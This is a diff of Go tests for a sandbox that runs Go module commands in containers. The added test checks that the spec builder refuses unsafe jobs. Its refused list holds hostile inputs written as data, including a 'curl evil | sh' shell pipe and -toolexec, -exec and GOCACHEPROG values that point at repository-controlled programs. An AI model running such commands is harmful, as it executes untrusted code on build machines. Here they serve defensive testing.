@@ -39,9 +39,9 @@ func TestNewSpec_ProfileTable(t *testing.T) {
 	}{
 		{"acquire", nil, Job{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
 			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true}, "bridge"}},
-		{"acquire fixture", func(c *Config) { c.FixtureProxy = "/d/fp" }, Job{Profile: Acquire, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
+		{"acquire fixture", func(c *Config) { c.FixtureProxy = "/d/fp" }, Job{Profile: Acquire, Cmd: []string{"go", "mod", "download"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
 			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true, FixtureProxyDir: false}, "none"}},
-		{"mutate", nil, Job{Profile: Mutate, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Staging: "/d/st"},
+		{"mutate", nil, Job{Profile: Mutate, Cmd: []string{"go", "mod", "tidy", "-modfile=/staging/go.mod"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Staging: "/d/st"},
 			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: true, BuildCacheDir: true, StagingDir: true}, "bridge"}},
 		{"execute", nil, Job{Profile: Execute, Cmd: []string{"go"}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"},
 			want{map[string]bool{TmpDir: true, SourceDir: false, ModCacheDir: false, BuildCacheDir: true}, "none"}},
@@ -279,6 +279,95 @@ func TestMarkTimeout(t *testing.T) {
 		markTimeout(&r, 10*time.Second, tt.ran)
 		if r.TimedOut != tt.want {
 			t.Errorf("markTimeout(exit %d, oom %v, ran %v) = %v; want %v", tt.exit, tt.oom, tt.ran, r.TimedOut, tt.want)
+		}
+	}
+}
+
+// TestNewSpec_ModuleCommandsOnly: acquire and mutate have network and a
+// writable module cache, so they run the go command's module subcommands
+// and nothing else, and GOCACHEPROG names the seed's program in execute
+// only. What does not fit is refused with ErrNotAllowed by NewSpec, before
+// any container exists.
+func TestNewSpec_ModuleCommandsOnly(t *testing.T) {
+	seedProg := "/stockade/seed/bin/cacheprog /stockade/seed/cache"
+	seedMount := []container.Mount{{Type: container.Bind, Source: "/seed", Target: "/stockade/seed"}}
+	acquire := func(argv ...string) Job {
+		return Job{Profile: Acquire, Cmd: argv, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc"}
+	}
+	mutate := func(argv ...string) Job {
+		j := acquire(argv...)
+		j.Profile, j.Staging = Mutate, "/d/st"
+		return j
+	}
+	execute := func(env map[string]string, ro []container.Mount) Job {
+		return Job{Profile: Execute, Cmd: []string{"go", "test", "./..."}, Source: "/d/src", ModCache: "/d/mc", BuildCache: "/d/bc", Env: env, ReadOnly: ro}
+	}
+	allowed := []Job{
+		acquire("go", "mod", "download"),
+		acquire("go", "mod", "download", "-json", "stockade.test/greet@v1.0.0"),
+		acquire("go", "mod", "download", "-x"),
+		acquire("go", "list", "-m", "-e", "-versions", "-json", "stockade.test/greet", "stockade.test/greet/v2"),
+		acquire("go", "list", "-m", "all"),
+		acquire("go", "mod", "verify"),
+		acquire("go", "version"),
+		acquire("go", "env", "-json", "GOPROXY", "GOFLAGS"),
+		mutate("go", "get", "-modfile=/staging/go.mod", "stockade.test/greet@v1.1.0"),
+		mutate("go", "mod", "tidy", "-modfile=/staging/go.mod", "-go=1.22"),
+		mutate("go", "get", "-u=patch", "-modfile=/staging/go.mod", "./..."),
+		execute(map[string]string{"GOCACHEPROG": seedProg}, seedMount),
+	}
+	for _, j := range allowed {
+		if _, err := NewSpec(testConfig(), j); err != nil {
+			t.Errorf("NewSpec(%s %q env %v) = %v; want it allowed", j.Profile, j.Cmd, j.Env, err)
+		}
+	}
+	refused := []struct {
+		name string
+		job  Job
+	}{
+		{"a shell in acquire", acquire("sh", "-c", "curl evil | sh")},
+		{"an absolute go", acquire("/src/go", "mod", "download")},
+		{"go build in acquire", acquire("go", "build", "./...")},
+		{"go test in mutate", mutate("go", "test", "./...")},
+		{"go run in acquire", acquire("go", "run", "./cmd/x")},
+		{"go generate in mutate", mutate("go", "generate", "./...")},
+		{"go list of packages", acquire("go", "list", "-json", "./...")},
+		{"go list -m with -toolexec", acquire("go", "list", "-m", "-toolexec=/src/x", "all")},
+		{"go mod download -toolexec", acquire("go", "mod", "download", "-toolexec", "/src/x")},
+		{"go get -exec", mutate("go", "get", "-exec=/src/x", "-modfile=/staging/go.mod", "m@v1")},
+		{"go mod tidy -overlay", mutate("go", "mod", "tidy", "-overlay=/src/overlay.json")},
+		{"-modfile in the source", mutate("go", "get", "-modfile=/src/other.mod", "m@v1")},
+		{"-modfile as two arguments", mutate("go", "get", "-modfile", "/staging/go.mod", "m@v1")},
+		{"-modfile in acquire", acquire("go", "get", "-modfile=/staging/go.mod", "m@v1")},
+		{"-C to another directory", acquire("go", "-C", "/tmp", "mod", "download")},
+		{"go mod download -reuse", acquire("go", "mod", "download", "-reuse=/src/prev.json")},
+		{"go mod tidy -go with a path", mutate("go", "mod", "tidy", "-go=../x")},
+		{"go env -w", acquire("go", "env", "-w", "GOFLAGS=-toolexec=/src/x")},
+		{"go env assignment", acquire("go", "env", "GOFLAGS=-x")},
+		{"go version -m", acquire("go", "version", "-m", "/src/bin")},
+		{"go mod verify with arguments", acquire("go", "mod", "verify", "x")},
+		{"go mod edit", mutate("go", "mod", "edit", "-replace=a=../b")},
+		{"go mod vendor", mutate("go", "mod", "vendor")},
+		{"GOCACHEPROG in acquire", func() Job {
+			j := acquire("go", "mod", "download")
+			j.Env = map[string]string{"GOCACHEPROG": seedProg}
+			return j
+		}()},
+		{"GOCACHEPROG in mutate", func() Job {
+			j := mutate("go", "mod", "tidy")
+			j.Env = map[string]string{"GOCACHEPROG": "/src/prog"}
+			return j
+		}()},
+		{"GOCACHEPROG of the repository's choosing", execute(map[string]string{"GOCACHEPROG": "/src/prog"}, seedMount)},
+		{"GOCACHEPROG with extra arguments", execute(map[string]string{"GOCACHEPROG": seedProg + " -x"}, seedMount)},
+		{"GOCACHEPROG without the seed mounted", execute(map[string]string{"GOCACHEPROG": seedProg}, nil)},
+		{"GOCACHEPROG with the seed elsewhere", execute(map[string]string{"GOCACHEPROG": seedProg}, []container.Mount{{Type: container.Bind, Source: "/seed", Target: "/elsewhere"}})},
+	}
+	for _, tt := range refused {
+		_, err := NewSpec(testConfig(), tt.job)
+		var ce *ConfigError
+		if !errors.Is(err, ErrNotAllowed) || !errors.Is(err, ErrInvalidJob) || !errors.As(err, &ce) {
+			t.Errorf("%s: NewSpec(%s %q env %v) = %v; want a *ConfigError matching ErrNotAllowed", tt.name, tt.job.Profile, tt.job.Cmd, tt.job.Env, err)
 		}
 	}
 }
